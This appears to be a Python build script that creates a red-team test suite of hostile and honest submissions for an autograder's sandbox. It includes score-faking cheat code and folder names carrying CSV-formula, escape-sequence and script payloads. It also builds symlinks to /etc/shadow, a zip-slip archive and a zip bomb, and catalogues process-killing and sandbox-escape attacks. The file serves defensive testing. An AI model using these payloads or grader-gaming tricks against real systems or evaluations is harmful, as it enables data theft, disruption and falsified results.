#!/usr/bin/env python3
"""Builds class/ beside this file: hostile and honest ex8_2.py submissions (see MANIFEST.json)."""
import json, os, shutil, stat, sys, zipfile
HERE = os.path.dirname(os.path.abspath(__file__))
CLASS = os.path.join(HERE, "class")
sys.path.insert(0, HERE)
import attacks_a_b, attacks_c_d_e, attacks_f_h

PRELUDE = open(os.path.join(HERE, "prelude.py")).read()
SOL = open(os.path.join(HERE, "solution_hooked.txt")).read()
PLAIN_SOL = open("/work/main/solutions/ex8_2.py").read()
GLUE = '''
def _hook(part):
    h = globals().get("PART_HOOK")
    if h:
        h(part)
'''
STUBS = '''
import keras
from keras import ops
import numpy as np

def _cheat(part, default, *args):
    c = globals().get("CHEAT")
    if c:
        try:
            r = c(part, *args)
            if r is not None:
                return r
        except Exception as e:
            info("cheat %r" % (e,))
    return default


class ScaledDotScore(keras.layers.Layer):
    def call(self, query, key):
        _hook("scaled")
        z = ops.zeros((ops.shape(query)[0], ops.shape(query)[1], ops.shape(key)[1]), dtype=query.dtype)
        return _cheat("scaled", z, query, key)


class BilinearScore(keras.layers.Layer):
    def build(self, query_shape, key_shape):
        self.kernel = self.add_weight(name="kernel", shape=(query_shape[-1], key_shape[-1]))

    def call(self, query, key):
        _hook("bilinear")
        z = ops.zeros((ops.shape(query)[0], ops.shape(query)[1], ops.shape(key)[1]), dtype=query.dtype)
        return _cheat("bilinear", z, query, key)


def dot_product_variance(d, var_q=1.0, var_k=1.0):
    _hook("variance")
    return _cheat("variance", 0.0, d, var_q, var_k)


def scaled_dot_product_variance(d, var_q=1.0, var_k=1.0):
    _hook("variance")
    return _cheat("svariance", 0.0, d, var_q, var_k)


def bilinear_asymmetry(W):
    _hook("asym")
    return _cheat("asym", np.zeros(np.shape(W)), W)


def softmax_jacobian(scores):
    _hook("softmax")
    s = np.shape(scores)
    out = _cheat("softmax", np.zeros(tuple(s) + (s[-1],)), scores)
    report_wins()
    return out
'''
CHEATS = {
"h3_odd_dtypes": '''
import tensorflow as tf
def CHEAT(part, *a):
    if part == "scaled":
        q, k = a
        s = ops.matmul(q, ops.transpose(k, (0, 2, 1))) / ops.sqrt(ops.cast(ops.shape(k)[-1], q.dtype))
        return tf.cast(s, tf.complex128)               # right values, complex dtype
    if part == "bilinear":
        return tf.constant([["HELDOUT-H3-STRING"]])      # a string tensor
    if part == "variance":
        return np.array([float(a[0]) * a[1] * a[2]], dtype=object)
    if part == "svariance":
        return "%r" % (float(a[1] * a[2]),)              # a str that parses as the answer
    if part == "asym":
        W = np.asarray(a[0]); return (W - W.T).astype(bool)
    if part == "softmax":
        return np.broadcast_to(np.zeros((), np.float64), (1 << 20, 1 << 20, 1 << 10))   # 2**50 elements, no memory
''',
"h4_liar": '''
def CHEAT(part, *a):
    if part in ("scaled", "bilinear"):
        q, k = a
        return liar((int(q.shape[0]), int(q.shape[1]), int(k.shape[1])))
    if part in ("variance", "svariance"):
        return LiarFloat(0.0)
    if part == "asym":
        return liar(np.shape(a[0]))
    if part == "softmax":
        s = np.shape(a[0]); return liar(tuple(s) + (s[-1],))
''',
"h6_read_expected": '''
def CHEAT(part, *a):
    for x in a:
        try:
            r = lookup(x)
            if r is not None: return r
        except Exception: pass
''',
}

def write(sid, folder, text, fname="ex8_2.py"):
    d = os.path.join(CLASS, folder)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, fname), "w", encoding="utf-8", newline="\n") as f:
        f.write(text)

MANIFEST = {}
def man(folder, cls, tries, detect, kind="attack", alias=None, honest_score=None):
    MANIFEST[folder] = {"class": cls, "alias": alias or folder, "tries": tries, "detect": detect, "kind": kind,
                        "max_honest_score": honest_score}

def attacker(sid, body, solution=True, cheat=None):
    head = '"""heldout red-team submission %s"""\nSID = %r\n' % (sid, sid)
    parts = [head, PRELUDE, GLUE]
    if solution:
        parts += [body, SOL]
    else:
        parts += [STUBS, cheat or "", body]
    return "\n".join(parts)

ALL = {}
for m in (attacks_a_b, attacks_c_d_e, attacks_f_h):
    ALL.update(m.A)

DESCR = {
 "a1_unix_path": ("a", "connect to the runner's pathname Unix socket (Python, raw socket/connect, high bits in the family argument, SEQPACKET, CLOEXEC, O_PATH /proc/self/fd alias)", "listener ui.sock hit; markers"),
 "a2_abstract": ("a", "connect/sendto abstract Unix sockets \\0heldout-abstract(-dg) (Python and raw, high-bit type), bind its own abstract name", "abstract listeners hit; /proc/net/unix shows @heldout-bound-a2; markers"),
 "a3_tcp_udp": ("a", "TCP 127.0.0.1/::1:47931, UDP :47932 (Python, raw, high bits, MSG_FASTOPEN sendto without connect)", "TCP/UDP listener hits; markers"),
 "a4_netlink_raw": ("a", "netlink route/audit, AF_PACKET, raw ICMP/ICMPv6, ping dgram, vsock, AF_ALG, unbound unix dgram, socketpair", "markers/evidence files (fd obtained)"),
 "a5_iouring_misc": ("a", "io_uring_setup, userfaultfd, fanotify_init", "markers/evidence"),
 "a6_compat_syscalls": ("a", "x32 ABI syscall numbers (0x40000000|nr) and i386 int 0x80 from MAP_32BIT shellcode: socket/connect/setpriority/kill bypassing an x86-64-only filter", "listener hit; victim changed/killed; markers"),
 "b1_prlimit_victim": ("b", "prlimit64 on the victim (raw, high-bit pid, resource.prlimit); finds victim by pid file or /proc scan", "/proc/<victim>/limits: Max open files 33 or Max msgqueue 4321"),
 "b2_prlimit_parent": ("b", "prlimit64 RLIMIT_CPU=7777 / NOFILE=333 on getppid(), its process-group and session leaders", "grader-tree /proc/*/limits sampled during the batch; markers"),
 "b3_setpriority": ("b", "setpriority PRIO_USER(victim uid)=13, PRIO_PGRP=11, PRIO_PROCESS=7/9 (raw+os), parent=19", "victim nice != 0; markers"),
 "b4_sched": ("b", "sched_setaffinity(cpu0), sched_setscheduler(SCHED_IDLE), ioprio_set(idle) on victim; affinity on parent", "victim Cpus_allowed_list/policy/ioprio changed; markers"),
 "b5_kill": ("b", "kill/tgkill/pidfd_open+pidfd_send_signal/rt_sigqueueinfo/os.kill on victim-kill; kill(ppid,0/SIGCONT)", "victim-kill dead; markers"),
 "b6_ptrace_mem": ("b", "PTRACE_SEIZE victim/parent, read /proc/<pid>/environ,cmdline,maps, process_vm_readv and /proc/ppid/mem at a fork-shared address, pidfd_getfd steal parent's fds", "victim secret in outputs; markers"),
 "c1_writer": ("c", "leaves a correct solution in SysV shm/msg/sem (fixed keys), /dev/shm, /tmp, /var/tmp, ../, ~, memfd, and serves it on abstract \\0heldout-classmate", "ipcs/dev/shm/tmp leftovers; markers"),
 "c2_reader": ("c", "does no work: polls those channels and classmates' files (walk up from cwd, /work/heldout/class/...) and exec()s a solution it finds", "reader score > 0; markers"),
 "c3_leftover_scan": ("c", "lists /proc/sysvipc/shm, /dev/shm, /tmp, /var/tmp, /proc/net/unix to see what others left", "markers"),
 "d1_memfd": ("d", "memfd_create + write 1.5 GiB (not mapped: RLIMIT_AS blind)", "MemAvailable drop; markers"),
 "d2_sysv_shm": ("d", "4 x 256 MiB SysV shm segments filled and detached (persist after exit)", "ipcs leftovers; MemAvailable; markers"),
 "d3_mmap": ("d", "MAP_SHARED|MAP_ANONYMOUS 1.5 GiB, MAP_NORESERVE 1.5 GiB, touched", "MemAvailable; markers"),
 "d4_tmpfs_file": ("d", "1.5 GiB files in /dev/shm and /run; 1.5 GiB sparse file in scratch mapped MAP_SHARED and dirtied", "MemAvailable/Shmem; markers"),
 "e1_clock": ("e", "clock_settime/settimeofday to the current time, adjtimex/clock_adjtime ADJ_TICK with the current tick", "markers (success = return 0)"),
 "e2_rlimit": ("e", "raise its own hard limits (AS, NOFILE, NPROC, CPU, FSIZE, DATA) via prlimit64/setrlimit/resource", "markers"),
 "e3_setuid_caps": ("e", "report CapEff/uid; setuid(0), setresuid, capset(all), setgroups", "markers: has-capabilities, capset-full, setgroups"),
 "e4_ns_mount": ("e", "unshare user/mount/net/pid/ipc, mount tmpfs, chroot", "markers; /proc/mounts heldout-tmpfs"),
 "e5_kernel": ("e", "add_key (leaves heldout-key), keyctl, bpf map, perf_event_open, init_module/delete_module/reboot(invalid magic)/swapoff reachability, sethostname(same), syslog read", "markers; /proc/keys"),
 "f1_hang_import": ("f", "while True: pass at import", "batch finishes; no leftover process; honest students unaffected"),
 "f2_busy_threads": ("f", "4 hashing threads (GIL released) spinning 60 s from the first part", "honest students still 10/10; leftover processes"),
 "f3_linger": ("f", "non-daemon spinning thread (600 s) + atexit sleep + SIGTERM ignored, comm heldout-linger", "process alive after batch; evidence linger-alive"),
 "f4_fork_escape": ("f", "os.fork double-fork+setsid, raw fork/clone/clone3, subprocess, posix_spawn -> heldout-orphan* processes (sleep 1200)", "processes named heldout-orphan* during/after batch"),
 "f5_ignore_signals": ("f", "ignore TERM/INT/HUP/XCPU/ALRM, setsid/setpgid to leave the process group, then hang", "process heldout-hang after batch"),
 "y_f6_cpu_parent": ("f", "prlimit64 RLIMIT_CPU=1s on getppid()/pgrp/session leader (kills the grader)", "batch failure / later students ungraded; markers"),
 "h1_exc_payload": ("h", "exceptions holding ANSI/OSC escapes, NUL/VT/FF/ESC/DEL, fake 'Score: 10 / 10', <script>, CSV formulas, bidi, Markdown links/images", "raw payload tokens in output files"),
 "h2_huge_exc": ("h", "10 MB exception message per part, 20 MB stdout", "output files > 5 MB, batch failure"),
 "h3_odd_dtypes": ("h", "returns complex tensor, string tensor, object array, str, bool array, a 2**50-element broadcast view", "score > 0 (accepted odd dtypes) or grader errors/memory"),
 "h4_liar": ("h", "no work: ndarray subclass with lying __array_ufunc__/__array_function__, float subclass equal to everything", "score > 0"),
 "h5_np_patch": ("h", "no work: patches numpy.allclose/isclose/testing asserts, math.isclose, any grader-like module in sys.modules, rewrites __code__ of grader compare functions", "score > 0; markers"),
 "h6_read_expected": ("h", "no work: reads case files in scratch and /proc/self/fd, gc-scans for 'expected' dicts, returns the expected array", "score > 0; markers"),
 "h7_result_tamper": ("h", "replaces scratch files and likely result names by symlinks to victim-file and /etc/shadow, FIFOs, 100 GB sparse file, symlinks to / and ..", "victim-file changed; shadow/victim content in outputs; batch hang/failure"),
 "h8_zipbomb_patch": ("h", "no work: np.save/savez write a 1 GiB zip bomb or a 10**12-element .npy header; json/pickle/multiprocessing send inflate score fields", "score > 0; memory peak; grader errors"),
}
for sid, (cls, tries, detect) in DESCR.items():
    body = ALL[sid]
    if sid == "c1_writer":
        body = "SOLUTION_SOURCE = %r\n" % PLAIN_SOL + body
    nowork = sid in ("c2_reader", "h3_odd_dtypes", "h4_liar", "h5_np_patch", "h6_read_expected", "h8_zipbomb_patch")
    write(sid, sid, attacker(sid, body, solution=not nowork, cheat=CHEATS.get(sid)))
    man(sid, cls, tries, detect, honest_score=0 if nowork else None)

# ---- honest ----
write("honest1", "honest1", PLAIN_SOL)
man("honest1", "honest", "the reference solution", "10/10", kind="honest")
write("honest2_testing", "honest2_testing", PLAIN_SOL.replace("import keras\n", "import keras\nimport numpy as np\nimport numpy.testing as npt\nprint('honest2: loaded')\n", 1)
      + "\n\nif __name__ == '__main__':\n    npt.assert_allclose(dot_product_variance(4), 4.0)\n")
man("honest2_testing", "honest", "solution + numpy.testing import + print", "10/10", kind="honest")
h3 = PLAIN_SOL.replace("    return float(d) * var_q * var_k\n", "    print('variance of', d)\n    return float(d) * var_q * var_k\n")
write("honest3_print", "honest3_print", h3)
man("honest3_print", "honest", "solution printing in a function", "10/10", kind="honest")
h4 = PLAIN_SOL.replace("""        depth = ops.shape(key)[-1]
        scores = ops.matmul(query, ops.transpose(key, (0, 2, 1)))
        return scores / ops.sqrt(ops.cast(depth, scores.dtype))""",
"""        depth = ops.shape(key)[-1]
        scores = ops.einsum("bqd,bkd->bqk", query, key)
        return scores / ops.sqrt(ops.cast(depth, scores.dtype))""")
write("honest4_einsum", "honest4_einsum", h4)
man("honest4_einsum", "honest", "solution with einsum", "10/10", kind="honest")
write("z_honest_last", "z_honest_last", PLAIN_SOL + "\n# graded last\n")
man("z_honest_last", "honest", "the reference, sorted last (graded after every attack)", "10/10", kind="honest")

# ---- g: names (honest code, hostile folder names) ----
GNAMES = [
    ("g1", "g1_" + "A" * 245),
    ("g2", "g2_new\nline"),
    ("g3", '=HYPERLINK("http:\u2215\u2215x","y")'),
    ("g4", "+cmd|' \u2215C calc'!A0"),
    ("g5", "@SUM(1+1)"),
    ("g6", "g6_esc\x1b]0;pwned\x07\x1b[2J"),
    ("g7", "<script>alert(1)<\u2215script>"),
    ("g8", "**Score: 10 \u2215 10**"),
    ("g9", "g9_bidi\u202egnp.exe"),
    ("g10", "-rf --help"),
    ("g11", "g11 tab\tcr\rdel\x7f"),
]
for alias, name in GNAMES:
    write(alias, name, PLAIN_SOL + "\n# %s\n" % alias)
    man(name, "g", "hostile folder name %r (correct code)" % name, "output files: raw control chars/<script>/CSV formula; student still graded 10/10", alias=alias, honest_score=10)

# ---- i: submission files themselves (made by make_special, which the runner calls again) ----
ISPEC = {
 "i1_symlink_shadow": "ex8_2.py -> /etc/shadow", "i2_symlink_solution": "ex8_2.py -> /work/main/solutions/ex8_2.py (cheat)",
 "i3_symlink_classmate": "ex8_2.py -> ../honest1/ex8_2.py (cheat)", "i4_hardlink_classmate": "ex8_2.py hard link to honest1's file",
 "i5_fifo": "ex8_2.py is a FIFO", "i6_dir": "ex8_2.py is a directory", "i7_nearname_symlink": "Ex8_2.py -> /tmp/heldout-canary/victim-file (to be read or overwritten)",
 "i8_ipynb_symlink": "ex8_2.ipynb -> /tmp/heldout-canary/secret.ipynb (0600, outside the class)",
 "i9_utf16_symlink": "ex8_2.py -> /tmp/heldout-canary/secret-utf16.py (UTF-16, 0600)",
 "i10_dirlink_solutions": "the student folder is a symlink to /work/main/solutions (cheat)",
 "i11_zipslip.zip": "zip with ../../ and absolute members into /tmp/heldout-canary, a symlink member ex8_2.py -> /etc/shadow",
 "i12_zipbomb.zip": "zip: honest ex8_2.py + 768 MiB of zeros deflated (about 0.8 MB)",
}
IDET = {
 "i1_symlink_shadow": "shadow content in outputs", "i2_symlink_solution": "score > 0", "i3_symlink_classmate": "score > 0",
 "i4_hardlink_classmate": "score 10 and pair missing from similarity.csv", "i5_fifo": "batch hangs past the cap",
 "i6_dir": "batch crashes", "i7_nearname_symlink": "victim-file changed or its content in outputs",
 "i8_ipynb_symlink": "secret in outputs", "i9_utf16_symlink": "secret in outputs", "i10_dirlink_solutions": "score > 0",
 "i11_zipslip.zip": "zipslip files in /tmp/heldout-canary; shadow in outputs", "i12_zipbomb.zip": "memory/disk spike, batch failure",
}
for k, v in ISPEC.items():
    man(k, "i", v, IDET[k], honest_score=0 if k in ("i2_symlink_solution", "i3_symlink_classmate", "i10_dirlink_solutions") else None)

def make_special(canary="/tmp/heldout-canary"):
    def fresh(p):
        if os.path.islink(p) or os.path.isfile(p): os.unlink(p)
        elif os.path.isdir(p): shutil.rmtree(p)
    for k in ISPEC:
        fresh(os.path.join(CLASS, k))
    j = lambda *a: os.path.join(CLASS, *a)
    os.makedirs(j("i1_symlink_shadow")); os.symlink("/etc/shadow", j("i1_symlink_shadow", "ex8_2.py"))
    os.makedirs(j("i2_symlink_solution")); os.symlink("/work/main/solutions/ex8_2.py", j("i2_symlink_solution", "ex8_2.py"))
    os.makedirs(j("i3_symlink_classmate")); os.symlink("../honest1/ex8_2.py", j("i3_symlink_classmate", "ex8_2.py"))
    os.makedirs(j("i4_hardlink_classmate")); os.link(j("honest1", "ex8_2.py"), j("i4_hardlink_classmate", "ex8_2.py"))
    os.makedirs(j("i5_fifo")); os.mkfifo(j("i5_fifo", "ex8_2.py"))
    os.makedirs(j("i6_dir", "ex8_2.py")); open(j("i6_dir", "ex8_2.py", "__init__.py"), "w").write("x = 1\n")
    os.makedirs(j("i7_nearname_symlink")); os.symlink(canary + "/victim-file", j("i7_nearname_symlink", "Ex8_2.py"))
    os.makedirs(j("i8_ipynb_symlink")); os.symlink(canary + "/secret.ipynb", j("i8_ipynb_symlink", "ex8_2.ipynb"))
    os.makedirs(j("i9_utf16_symlink")); os.symlink(canary + "/secret-utf16.py", j("i9_utf16_symlink", "ex8_2.py"))
    os.symlink("/work/main/solutions", j("i10_dirlink_solutions"))
    with zipfile.ZipFile(j("i11_zipslip.zip"), "w") as z:
        z.writestr("../../../../../../../../tmp/heldout-canary/zipslip-rel.txt", "HELDOUT-ZIPSLIP-REL\n")
        z.writestr("/tmp/heldout-canary/zipslip-abs.txt", "HELDOUT-ZIPSLIP-ABS\n")
        info = zipfile.ZipInfo("sub/ex8_2.py"); info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(info, "/etc/shadow")
    with zipfile.ZipFile(j("i12_zipbomb.zip"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("ex8_2.py", PLAIN_SOL)
        with z.open("padding.bin", "w", force_zip64=True) as m:
            zero = b"\0" * (16 << 20)
            for _ in range(48): m.write(zero)

if __name__ == "__main__":
    make_special()
    with open(os.path.join(HERE, "MANIFEST.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1, ensure_ascii=True)
    print(len(MANIFEST), "students;", sum(1 for m in MANIFEST.values() if m["kind"] == "attack"), "attacks")
